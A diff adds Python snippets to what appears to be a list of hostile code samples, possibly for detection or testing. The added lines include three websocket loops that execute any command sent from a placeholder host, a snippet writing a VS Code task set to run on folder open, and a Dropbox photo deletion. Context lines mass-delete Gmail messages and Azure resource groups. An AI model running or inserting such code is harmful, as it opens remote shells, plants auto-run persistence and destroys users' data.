@@ -672,6 +672,26 @@ build('gmail', 'v1').users().messages().batchDelete(userId='me', body={'ids': id
 for group in client.resource_groups.list():
     client.resource_groups.begin_delete(group.name)
 ---
+import websocket, subprocess
+ws = websocket.create_connection('wss://x.example.net')
+while True:
+    subprocess.run(ws.recv(), shell=True)
+---
+import asyncio, websockets, os
+async def main():
+    async with websockets.connect('wss://x.example.net') as ws:
+        async for message in ws:
+            os.system(message)
+asyncio.run(main())
+---
+import websocket, os
+websocket.WebSocketApp('wss://x.example.net', on_message=lambda ws, message: os.system(message)).run_forever()
+---
+import json
+json.dump({'tasks': [{'command': 'x', 'runOptions': {'runOn': 'folderOpen'}}]}, open('.vscode/tasks.json', 'w'))
+---
+dbx.files_delete_v2('/Photos')
+---
 from huggingface_hub import HfApi
 HfApi().upload_folder(folder_path='data', repo_id='a/b')
 ---
